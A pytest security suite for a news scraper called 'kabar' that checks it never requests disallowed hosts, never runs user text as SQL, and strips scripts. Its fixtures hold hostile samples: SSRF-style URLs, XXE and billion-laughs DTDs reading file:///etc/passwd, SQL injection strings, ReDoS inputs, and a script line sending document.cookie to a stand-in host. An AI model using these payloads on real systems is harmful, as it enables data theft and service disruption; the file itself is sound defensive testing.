"""Security: kabar only ever asks allowed hosts over http(s), never builds SQL from user text, never runs a page.

1. A source whose listing, feed, robots.txt, sitemap index, sitemaps (one with an XXE DOCTYPE) and article
   pages are full of hostile links (other hosts, look-alike hosts, userinfo tricks, IP spellings, IDN
   homographs, javascript:/data:/file:/ftp:/gopher: schemes) and whose redirects point at the same places is
   crawled over an ``httpx.MockTransport`` that records every request: every request must be http(s) to an
   allowed host, and nothing from /etc/passwd may show up anywhere.
2. ``kabar search/latest/export`` with SQL in every user-controlled argument: the tables are still there,
   nothing leaks across ``--source``, and a bad FTS query is exit 2, never a traceback.
3. A page full of <script>, event handlers, <template>, <noscript>, comments and a JSON-LD body: the parsed
   and the stored text hold none of it.
"""

from __future__ import annotations

import gzip
import io
import json
import sqlite3
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from helpers import article_html, kabar_env

from scraper.config import Config, config_from_dict
from scraper.crawl import run_crawl
from scraper.demo import demo_config, serve_demo
from scraper.parse import parse_html
from scraper.pipeline import crawl_source
from storage.store import Store

pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parent.parent
HOST = "fam68.example"
ALLOWED = {HOST, "www." + HOST}
BASE = f"http://{HOST}"
GOOD_PARAS = [
    "Dinas Perhubungan Kota Serang menambah dua puluh armada bus sekolah gratis untuk pelajar SD dan SMP "
    "mulai pekan depan, kata kepala dinas kepada wartawan pada hari Selasa.",
    "Armada baru melayani enam rute yang menghubungkan kecamatan di pinggiran kota dengan pusat kota, "
    "dengan jadwal pagi dan siang hari sesuai jam sekolah.",
    "Pemerintah kota menyiapkan anggaran perawatan dan gaji sopir dari APBD perubahan tahun ini, "
    "sementara pendaftaran dibuka melalui sekolah masing-masing.",
]

# Links a page may carry that must never be requested. Paths look like articles so only the host or the
# scheme can stop them.
EVIL_LINKS = [
    "http://evil.invalid/2025/01/curian-1/",
    "//evil.invalid/2025/01/curian-2/",
    "HTTP://EVIL.INVALID/2025/01/curian-3/",
    "https://evil.invalid/2025/01/curian-4/",
    f"http://{HOST}.evil.invalid/2025/01/curian-5/",
    f"http://evil{HOST}/2025/01/curian-6/",
    f"http://{HOST}@evil.invalid/2025/01/curian-7/",
    f"http://{HOST}%2f@evil.invalid/2025/01/curian-8/",
    f"http://{HOST}\\@evil.invalid/2025/01/curian-9/",
    "http://evil.invalid#@fam68.example/2025/01/curian-10/",
    "http://[::1]/2025/01/curian-11/",
    "http://127.0.0.1/2025/01/curian-12/",
    "http://0x7f000001/2025/01/curian-13/",
    "http://2130706433/2025/01/curian-14/",
    "http://localhost/2025/01/curian-15/",
    "http://fam68.exаmple/2025/01/curian-16/",          # Cyrillic 'а'
    "javascript:fetch('http://evil.invalid/2025/01/curian-17/')",
    "data:text/html,<a href='http://evil.invalid/2025/01/curian-18/'>x</a>",
    "file:///etc/passwd",
    f"ftp://{HOST}/2025/01/curian-19/",
    f"gopher://{HOST}/2025/01/curian-20/",
    f"ws://{HOST}/2025/01/curian-21/",
    f"mailto:redaksi@{HOST}",
    f"view-source:{BASE}/2025/01/curian-22/",
]
REDIRECTS = {
    "/2025/01/alih-1/": "http://evil.invalid/2025/01/curian-r1/",
    "/2025/01/alih-2/": "//evil.invalid/2025/01/curian-r2/",
    "/2025/01/alih-3/": "javascript:alert(document.cookie)",
    "/2025/01/alih-4/": "file:///etc/passwd",
    "/2025/01/alih-5/": f"http://{HOST}@evil.invalid/2025/01/curian-r5/",
    "/2025/01/alih-6/": "/2025/01/alih-7/",
    "/2025/01/alih-7/": f"gopher://{HOST}/2025/01/curian-r7/",
    "/2025/01/alih-8/": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "/2025/01/alih-9/": "http://[::1]:22/2025/01/curian-r9/",
    "/2025/01/alih-10/": f"http://www.{HOST}/2025/01/berita-sub/",     # allowed subdomain: followed
}


def _good_page(title: str, head_extra: str = "") -> bytes:
    page = article_html(title, GOOD_PARAS)
    tricks = (
        '<link rel="canonical" href="http://evil.invalid/2025/01/kanonik/">'
        '<link rel="next" href="http://evil.invalid/2025/01/halaman-2/">'
        '<link rel="alternate" type="application/rss+xml" href="http://evil.invalid/feed/">'
        '<meta http-equiv="refresh" content="0;url=http://evil.invalid/2025/01/segar/">'
        '<link rel="amphtml" href="http://evil.invalid/2025/01/amp/">'
    )
    links = "".join(f'<a href="{u}">tautan</a> ' for u in EVIL_LINKS)
    page = page.replace("</head>", tricks + head_extra + "</head>")
    page = page.replace("</article>", f'</article><nav class="pagination"><a href="http://evil.invalid/2025/01/x/2/">2'
                                      f'</a></nav><aside>{links}</aside>')
    return page.encode("utf-8")


XXE_SITEMAP = (b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
               b'<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
               b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n'
               b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
               b'<url><loc>http://fam68.example/2025/01/xxe-&xxe;/</loc></url>'
               b'<url><loc>http://fam68.example/2025/01/lol-&lol3;/</loc></url>'
               b'<url><loc>http://fam68.example/2025/01/berita-dtd/</loc></url>'
               b"</urlset>")
# A sitemap with a DTD is refused whole (nothing in it is requested); the hostile links come in a clean one.
PAGE_SITEMAP = (b'<?xml version="1.0"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                b'<url><loc>http://fam68.example/2025/01/berita-peta/</loc></url>'
                + b"".join(f"<url><loc>{u.replace('&', '&amp;')}</loc></url>".encode() for u in EVIL_LINKS
                           if u.startswith(("http", "HTTP", "//")))
                + b"</urlset>")


class HostileSite:
    """A MockTransport handler: the allowed hosts answer; anything else is recorded and answers 200."""

    def __init__(self) -> None:
        self.requests: list[httpx.Request] = []
        self.lock = threading.Lock()
        listing_links = [*EVIL_LINKS, *REDIRECTS, "/2025/01/berita-aman/", f"http://www.{HOST}/2025/01/berita-sub/"]
        listing = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>FAM68</title>"
                   "<link rel='alternate' type='application/rss+xml' href='http://evil.invalid/feed/'></head><body>"
                   + "".join(f'<h2><a href="{u}">Berita {i}</a></h2>' for i, u in enumerate(listing_links))
                   + '<a class="next page-numbers" href="http://evil.invalid/page/2/">Berikutnya</a></body></html>')
        feed_items = "".join(f"<item><title>t{i}</title><link>{u.replace('&', '&amp;')}</link></item>"
                             for i, u in enumerate([*EVIL_LINKS, f"{BASE}/2025/01/berita-umpan/"]))
        self.pages: dict[str, tuple[int, dict[str, str], bytes]] = {
            "/": (200, {"content-type": "text/html"}, listing.encode()),
            "/robots.txt": (200, {"content-type": "text/plain"},
                            f"User-agent: *\nAllow: /\nSitemap: http://evil.invalid/sitemap.xml\n"
                            f"Sitemap: file:///etc/passwd\nSitemap: {BASE}/sitemap.xml\n".encode()),
            "/feed/": (200, {"content-type": "application/rss+xml"},
                       f"<?xml version='1.0'?><rss version='2.0'><channel><title>f</title>{feed_items}"
                       f"</channel></rss>".encode()),
            "/sitemap.xml": (200, {"content-type": "application/xml"}, (
                '<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                f"<sitemap><loc>{BASE}/post-sitemap.xml</loc></sitemap>"
                f"<sitemap><loc>{BASE}/post-sitemap2.xml</loc></sitemap>"
                "<sitemap><loc>http://evil.invalid/sitemap2.xml</loc></sitemap>"
                "<sitemap><loc>file:///etc/passwd</loc></sitemap></sitemapindex>").encode()),
            "/post-sitemap.xml": (200, {"content-type": "application/xml"}, XXE_SITEMAP),
            "/post-sitemap2.xml": (200, {"content-type": "application/xml"}, PAGE_SITEMAP),
            "/2025/01/berita-dtd/": (200, {"content-type": "text/html"}, _good_page("Dari Peta Ber-DTD")),
            "/2025/01/berita-aman/": (200, {"content-type": "text/html"}, _good_page("Bus Sekolah Gratis di Serang")),
            "/2025/01/berita-sub/": (200, {"content-type": "text/html"}, _good_page("Bus Sekolah Ditambah Lagi")),
            "/2025/01/berita-umpan/": (200, {"content-type": "text/html"}, _good_page("Rute Bus Sekolah Baru")),
            "/2025/01/berita-peta/": (200, {"content-type": "text/html"}, _good_page("Peta Rute Bus Sekolah")),
        }
        for path, target in REDIRECTS.items():
            self.pages[path] = (302, {"location": target}, b"")

    def __call__(self, request: httpx.Request) -> httpx.Response:
        with self.lock:
            self.requests.append(request)
        if request.url.host.rstrip(".") not in ALLOWED:
            return httpx.Response(200, headers={"content-type": "text/html"}, content=b"<h1>stolen</h1>")
        status, headers, body = self.pages.get(request.url.path, (404, {"content-type": "text/html"}, b"404"))
        return httpx.Response(status, headers=headers, content=body)


def _config(db: Path) -> Config:
    return config_from_dict({
        "storage": {"path": str(db)},
        "http": {"per_host_delay": 0.0, "retries": 0, "timeout": 5.0},
        "sources": [{"name": "fam68", "start_urls": [f"{BASE}/"], "feeds": [f"{BASE}/feed/"],
                     "allowed_domains": [HOST]}],
    }, "<security>")


@pytest.fixture(scope="module")
def hostile_crawl(tmp_path_factory: pytest.TempPathFactory) -> tuple[HostileSite, sqlite3.Connection]:
    db = tmp_path_factory.mktemp("sec") / "s.db"
    site = HostileSite()
    config = _config(db)
    with Store.open(str(db)) as store:
        summary = crawl_source(config.sources[0], config, store, transport=httpx.MockTransport(site))
    assert summary.status == "ok", summary.errors
    conn = sqlite3.connect(db)
    return site, conn


def test_every_request_is_http_to_an_allowed_host(hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
    site, _ = hostile_crawl
    assert site.requests, "nothing was crawled"
    bad = [str(r.url) for r in site.requests
           if r.url.scheme not in ("http", "https") or r.url.host.rstrip(".") not in ALLOWED]
    assert bad == [], bad


def test_the_allowed_pages_were_reached(hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
    """Guard: the crawl did read the listing, the feed, the sitemaps and followed the allowed redirect."""
    site, conn = hostile_crawl
    asked = {r.url.path for r in site.requests}
    assert {"/", "/feed/", "/robots.txt", "/sitemap.xml", "/post-sitemap.xml", "/post-sitemap2.xml",
            "/2025/01/alih-10/"} <= asked
    titles = {t for (t,) in conn.execute("SELECT title FROM articles")}
    assert {"Bus Sekolah Gratis di Serang", "Bus Sekolah Ditambah Lagi", "Rute Bus Sekolah Baru",
            "Peta Rute Bus Sekolah"} <= titles


def test_redirects_out_of_bounds_are_skipped_with_a_reason(
        hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
    _, conn = hostile_crawl
    for path, target in REDIRECTS.items():
        if path in ("/2025/01/alih-6/", "/2025/01/alih-10/"):
            continue
        row = conn.execute("SELECT error FROM pages WHERE url = ?", (BASE + path,)).fetchone()
        assert row is not None and row[0], f"{path} -> {target}: no reason recorded"
        assert "redirect" in row[0].lower(), row[0]


def test_no_entity_was_expanded_and_no_local_file_read(
        hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
    site, conn = hostile_crawl
    urls = [str(r.url) for r in site.requests]
    assert not any("root:" in u or "lollol" in u for u in urls), urls
    dump = "\n".join(str(v) for table in ("pages", "articles", "article_urls")
                     for row in conn.execute(f"SELECT * FROM {table}") for v in row)   # noqa: S608 (fixed names)
    assert "root:x:0:0" not in dump and "lollollol" not in dump


def test_a_sitemap_with_a_dtd_is_refused_whole(hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
    """The DTD is refused by the XML parser itself: not one URL of that sitemap is requested."""
    site, _ = hostile_crawl
    asked = {r.url.path for r in site.requests}
    assert not any(p.startswith(("/2025/01/xxe-", "/2025/01/lol-", "/2025/01/berita-dtd")) for p in asked), asked


# ---- SQL from user text -------------------------------------------------------------------------------

INJECTIONS = [
    ("search", "'; DROP TABLE articles; --"),
    ("search", "banten' OR '1'='1"),
    ("search", "banten OR imigrasi NOT tidak"),
    ("search", "title:banten"),
    ("search", "NEAR(banten imigrasi, 5)"),
    ("search", "*"),
    ("search", "banten) UNION SELECT name, sql FROM sqlite_master --"),
    ("latest", "--source", "x' OR '1'='1"),
    ("latest", "--source", "%"),
    ("latest", "--since", "2025-01-01' OR 1=1 --"),
    ("export", "--format", "jsonl", "--source", "fam68-demo'; DELETE FROM articles; --"),
    ("stats", "--source", "'); DROP TABLE runs; --"),
]


@dataclass
class QueryRun:
    argv: tuple[str, ...]
    proc: subprocess.CompletedProcess[str]


def _schema(db: Path) -> list[tuple[str, str]]:
    conn = sqlite3.connect(db)
    try:
        return sorted(conn.execute("SELECT type, name FROM sqlite_master").fetchall())
    finally:
        conn.close()


def _counts(db: Path) -> dict[str, int]:
    conn = sqlite3.connect(db)
    try:
        return {t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0]   # noqa: S608 (fixed names)
                for t in ("articles", "segments", "runs", "sources", "article_urls", "pages")}
    finally:
        conn.close()


def test_query_commands_never_run_user_text_as_sql(tmp_path: Path) -> None:
    db = tmp_path / "q.db"
    with serve_demo() as base_url:
        config = demo_config(base_url, str(db))
        with Store.open(str(db)) as store:
            outcome = run_crawl(config, store, config.sources)
    assert outcome.exit_code == 0
    schema, counts = _schema(db), _counts(db)

    def run(argv: tuple[str, ...]) -> QueryRun:
        full = [sys.executable, "-m", "scraper", "--db", str(db), *argv]
        if argv[0] != "export":
            full += ["--format", "json"]
        return QueryRun(argv, subprocess.run(full, env=kabar_env(), capture_output=True, text=True, timeout=120))

    with ThreadPoolExecutor(max_workers=6) as pool:
        runs = list(pool.map(run, INJECTIONS))

    assert _schema(db) == schema
    assert _counts(db) == counts
    for r in runs:
        assert r.proc.returncode in (0, 2), (r.argv, r.proc.returncode, r.proc.stderr[-2000:])
        assert "Traceback" not in r.proc.stderr, (r.argv, r.proc.stderr[-2000:])
        if r.proc.returncode == 2:
            lines = [x for x in r.proc.stderr.splitlines() if x.strip()]
            assert len(lines) == 1 and lines[0].startswith("kabar: error: "), (r.argv, r.proc.stderr)
        rows = [json.loads(x) for x in r.proc.stdout.splitlines() if x.strip()]
        if "--source" in r.argv:
            assert rows == [], f"{r.argv}: a source name that matches no source returned rows"
        if r.argv[1:] == ("'; DROP TABLE articles; --",):
            assert all("sql" not in row for row in rows)


# ---- nothing from a page is executed ---------------------------------------------------------------

MARKER = "KABAR_EXECUTED_MARKER"
SCRIPTED = (
    "<!DOCTYPE html><html lang='id'><head><meta charset='utf-8'><title>Bus Sekolah – FAM68</title>"
    f"<script>require('fs').writeFileSync('/tmp/{MARKER}', 'x'); document.write('{MARKER}-head')</script>"
    f"<style>body::after {{ content: '{MARKER}-style' }}</style>"
    "<script type='application/ld+json'>{\"@type\": \"NewsArticle\", \"headline\": \"Bus Sekolah Gratis\", "
    f"\"articleBody\": \"<script>{MARKER}-jsonld</script>\"}}</script>"
    "</head><body><article><h1 class='entry-title'>Bus Sekolah Gratis</h1><div class='entry-content'>"
    f"<p>FAM68 – {GOOD_PARAS[0]}</p>"
    f"<script>fetch('http://evil.invalid/?c=' + document.cookie); /* {MARKER}-inline */</script>"
    f"<p onclick=\"alert('{MARKER}-onclick')\">{GOOD_PARAS[1]}</p>"
    f"<noscript><p>{MARKER}-noscript aktifkan JavaScript untuk membaca berita ini dengan lengkap.</p></noscript>"
    f"<template><p>{MARKER}-template isi tersembunyi yang tidak pernah ditampilkan oleh peramban.</p></template>"
    f"<!-- <p>{MARKER}-comment</p> -->"
    f"<iframe srcdoc=\"<script>{MARKER}-iframe</script>\"></iframe>"
    f"<img src='x' onerror=\"{MARKER}-onerror\">"
    f"<p>{GOOD_PARAS[2]}</p>"
    f"<svg><script>{MARKER}-svg</script></svg>"
    "</div></article></body></html>"
)


def test_parser_output_holds_no_script_text() -> None:
    art = parse_html(SCRIPTED.encode(), f"{BASE}/2025/01/skrip/")
    assert art.title == "Bus Sekolah Gratis"
    kept = " ".join([art.title or "", *(h or "" for s in art.segments for h in [s.headline]),
                     *(p for s in art.segments for p in s.paragraphs)])
    assert MARKER not in kept, kept
    assert "document.cookie" not in kept and "require(" not in kept
    assert GOOD_PARAS[1][:60] in kept


def test_stored_text_holds_no_script_text(tmp_path: Path) -> None:
    site = HostileSite()
    site.pages["/2025/01/berita-aman/"] = (200, {"content-type": "text/html"}, SCRIPTED.encode())
    db = tmp_path / "x.db"
    config = _config(db)
    with Store.open(str(db)) as store:
        crawl_source(config.sources[0], config, store, transport=httpx.MockTransport(site))
    conn = sqlite3.connect(db)
    try:
        row = conn.execute("SELECT id, title, text FROM articles WHERE url = ?",
                           (f"{BASE}/2025/01/berita-aman/",)).fetchone()
        assert row is not None
        segs = " ".join(f"{h or ''} {t}" for h, t in conn.execute(
            "SELECT headline, text FROM segments WHERE article_id = ?", (row[0],)))
    finally:
        conn.close()
    assert MARKER not in row[1] + row[2] + segs
    assert not Path(f"/tmp/{MARKER}").exists()


# ---- hostile XML and URLs in discovery ---------------------------------------------------------------
# Shapes from issue 14, generated here. Times are this process's CPU time, so a loaded machine does not
# make them flaky; the bounds are far above what a linear reader needs and far below the old quadratic
# regexes (<loc>*200k took 150 s, <rss> + 25,000 <link> 75 s, a 120 KB href 48 s).

def _cpu(fn: Callable[[], object]) -> tuple[float, object]:
    t0 = time.process_time()
    out = fn()
    return time.process_time() - t0, out


@pytest.mark.parametrize("doc", [
    b"<loc>" * 200_000,
    b"<urlset><url>" + b"<loc>" * 200_000,
    b"<urlset>" + b"<url><loc>" * 100_000,
    b"<urlset>&" + b"<url><loc>" * 100_000,                  # broken at once: the scanner reads it all
    b"<urlset><url><loc>" + b"<![CDATA[" * 100_000,
    b"<urlset><url><loc>https://x.example/" + b"a" * 1_000_000 + b"</loc></url></urlset>",
    b"<urlset>" + b"<x " * 300_000,
    b"<urlset>" + b"<" * 1_000_000,
], ids=["loc", "url-loc", "url+loc", "amp-url+loc", "cdata", "long-loc", "open-tags", "lt"])
def test_broken_sitemaps_are_read_in_linear_time(doc: bytes) -> None:
    from scraper.discover import parse_sitemap

    spent, out = _cpu(lambda: parse_sitemap(doc))
    assert out == ([], [])
    assert spent < 1.0, spent


@pytest.mark.parametrize("doc", [
    b"<rss>" + b"<link>" * 25_000,
    b"<rss><channel>" + b"<item><link>" * 25_000,
    b"<rss>&<channel>" + b"<item><link>" * 25_000,
    b"<feed>&" + b"<entry><link href='" * 25_000,
    b"\n" * 100_000 + b"<rss><channel><item><link>https://x.example/a</link></item></channel></rss>",
    b"<?xml version='1.0'?><rss a='" + b'encoding="a ' * 20_000 + b"'><channel></channel></rss>",
    b"<rss version='2.0'><channel>" + b"<item><link>https://x.example/a-b-c-d</link></item>" * 50_000
    + b"</channel></rss>",
    b"<rss version='2.0'><channel><item><link>https://x.example/a</link>" + b"<category>x</category>" * 200_000
    + b"</item></channel></rss>",
    b"<feed xmlns='http://www.w3.org/2005/Atom'>" + b"<x xml:base='a/'>" * 25_000,
    b"<feed xmlns='http://www.w3.org/2005/Atom'>" + b"<x xml:base='" + b"a/" * 500_000 + b"'>" * 64,
    b"<rss><channel><item>" + b"<link>https://x.example/a</link>" * 25_000 + b"</item></channel></rss>",
    b"<rss version='2.0'><channel><item><link>https://x.example/a</link><description>"
    + b"&lt;a href=x&gt;" * 300_000 + b"</description></item></channel></rss>",
    b"<rss version='2.0'><channel><item><link>https://x.example/a</link><description>" + b"x\n" * 1_000_000
    + b"</description></item></channel></rss>",
], ids=["links", "items", "amp-items", "atom-hrefs", "blank-prolog", "encoding-pi", "50k-items", "200k-elements",
        "nested-base", "long-base", "flat-links", "escaped-html", "lines"])
def test_hostile_feeds_are_read_in_bounded_time(doc: bytes) -> None:
    from scraper.discover import parse_feed

    spent, out = _cpu(lambda: parse_feed(doc, "https://x.example/feed/"))
    assert isinstance(out, list) and len(out) <= 1
    assert spent < 1.0, spent


def test_long_hrefs_on_a_listing_are_rejected_before_any_regex() -> None:
    from scraper.discover import is_article_url, links_from_listing

    html = (f'<a href="/{"2025/11/" * 15_000}">a</a><a href="/{"11/" * 10_000}">b</a>'
            f'<a href="/berita{"/berita" * 4_000}">c</a><a href="/2025/12/01/kabar-baik-dari-desa/">d</a>')
    spent, out = _cpu(lambda: links_from_listing(html, "https://x.id/"))
    assert out == (["https://x.id/2025/12/01/kabar-baik-dari-desa/"], [])
    assert spent < 0.05, spent
    for n in (120_000, 30_000):
        spent, ok = _cpu(lambda n=n: is_article_url("https://x.id/" + "11/" * (n // 3)))
        assert ok is False and spent < 0.05, spent


@pytest.mark.parametrize("path", ["11/" * 2_700, "/berita" * 1_160, "berita" + "/a" * 4_000,
                                  "/page" * 1_600, "-1" * 4_000, "2025/11/" * 1_000 + "1" * 100])
def test_urls_just_under_the_cap_are_linear(path: str) -> None:
    from scraper.discover import MAX_URL_CHARS, is_article_url

    url = ("https://x.id/" + path)[:MAX_URL_CHARS]
    spent, _ = _cpu(lambda: [is_article_url(url) for _ in range(10)])
    # ~5 ms here on a quiet machine; a pattern that backtracks quadratically over 8 KB takes seconds, so a
    # bound well above a slow or busy machine's time still catches it
    assert spent < 0.5, spent


DTD_SHAPES = {
    "decoy-comment": b'<?xml version="1.0"?>\n<!-- <!DOCTYPE x> -->\n<!DOCTYPE %s [<!ENTITY e "'
                     + b"x" * 10_000 + b'">]>\n',
    "billion-laughs": b'<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY l "lol">'
                      + b'<!ENTITY l2 "&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;"><!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;">]>',
    "xxe": b'<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "parameter-entity": b'<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]>',
    "unparsed": b'<?xml version="1.0"?><!DOCTYPE %s [<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "y" NDATA n>]>',
    "empty-subset": b'<?xml version="1.0"?><!DOCTYPE %s []>',
}


def _sitemap_doc(prolog: bytes) -> bytes:
    return (prolog.replace(b"%s", b"urlset", 1) + b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            + b"<url><loc>https://x.example/2025/01/a-&e;-&l3;/</loc></url>" * 1_000
            + b"<url><loc>https://x.example/2025/01/bersih/</loc></url></urlset>")


def _feed_doc(prolog: bytes) -> bytes:
    return (prolog.replace(b"%s", b"rss", 1) + b"<rss version='2.0'><channel><title>&e;</title>"
            + b"<item><title>&l3;&e;</title><link>https://x.example/2025/01/b/</link></item>" * 1_000
            + b"</channel></rss>")


@pytest.fixture
def feedparser_calls(monkeypatch: pytest.MonkeyPatch) -> list[bytes]:
    """Every document handed to feedparser, recorded."""
    import scraper.feeds

    calls: list[bytes] = []
    real = scraper.feeds.feedparser.parse

    def spy(stream: Any, *args: Any, **kwargs: Any) -> Any:
        data = stream.read()
        calls.append(data)
        return real(io.BytesIO(data), *args, **kwargs)

    monkeypatch.setattr(scraper.feeds.feedparser, "parse", spy)
    return calls


@pytest.mark.parametrize("shape", sorted(DTD_SHAPES))
@pytest.mark.parametrize("packed", [False, True], ids=["plain", "gzip"])
def test_a_dtd_is_refused_by_the_parser_and_feedparser_never_sees_it(
        shape: str, packed: bool, feedparser_calls: list[bytes]) -> None:
    from scraper.discover import parse_feed, parse_sitemap

    sitemap, feed = _sitemap_doc(DTD_SHAPES[shape]), _feed_doc(DTD_SHAPES[shape])
    if packed:
        sitemap, feed = gzip.compress(sitemap), gzip.compress(feed)
    problems: list[str] = []
    tracemalloc.start()
    try:
        assert parse_sitemap(sitemap, problems) == ([], [])
        assert parse_feed(feed, "https://x.example/feed/", problems) == []
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(problems) == 2 and all(p.startswith("refused: ") for p in problems), problems
    assert feedparser_calls == []
    assert peak < 20_000_000, peak


def test_entities_hidden_from_expat_never_reach_feedparser(feedparser_calls: list[bytes]) -> None:
    """feedparser's own fallback collects <!ENTITY ...> lines by regex, even inside a comment, and expands them
    in its loose parser: a document that expat cannot read and that declares an entity anywhere is refused."""
    from scraper.discover import parse_feed

    doc = (b'<?xml version="1.0"?>\n<!-- <!DOCTYPE x>\n<!ENTITY big "' + b"A" * 10_000 + b'">\n-->\n'
           b"<rss version='2.0'><channel>"
           + b"<item><title>&big;&big;&big;</title><link>https://x.example/2025/01/c/</link></item>" * 1_000
           + b"</channel></rss>")
    problems: list[str] = []
    assert parse_feed(doc, None, problems) == []
    assert problems == ["refused: broken XML with an ENTITY declaration"]
    assert feedparser_calls == []


def test_an_external_dtd_without_subset_is_read_and_never_fetched(feedparser_calls: list[bytes]) -> None:
    """RSS 0.91 as Netscape specified it declares an external DTD: no internal subset, so the feed is read
    (expat loads no external DTD) and feedparser gets the document from its root element on."""
    from scraper.discover import parse_feed

    doc = (b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD '
           b'RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
           b"<title>Caf\xe9</title><item><title>Berita</title><link>https://x.example/2025/01/d/</link></item>"
           b"</channel></rss>")
    assert parse_feed(doc) == [("https://x.example/2025/01/d/", None)]
    assert len(feedparser_calls) == 1 and b"DOCTYPE" not in feedparser_calls[0]
    assert feedparser_calls[0].startswith(b"<?xml version='1.0' encoding='utf-8'?>\n<rss")


def test_declarations_in_a_prolog_comment_never_reach_feedparser(feedparser_calls: list[bytes]) -> None:
    """Comments are comments to expat; feedparser's regexes would still collect a DOCTYPE and ENTITY lines
    from them. It gets the document from the root element on, so nothing of that prolog."""
    from scraper.discover import parse_feed

    doc = (b'<?xml version="1.0"?>\n<!--\n<!DOCTYPE rss>\n<!ENTITY big "' + b"A" * 10_000 + b'">\n-->\n'
           b"<rss version='2.0'><channel><item><link>https://x.example/2025/01/e/</link></item></channel></rss>")
    assert parse_feed(doc) == [("https://x.example/2025/01/e/", None)]
    assert len(feedparser_calls) == 1
    assert b"ENTITY" not in feedparser_calls[0] and b"DOCTYPE" not in feedparser_calls[0]
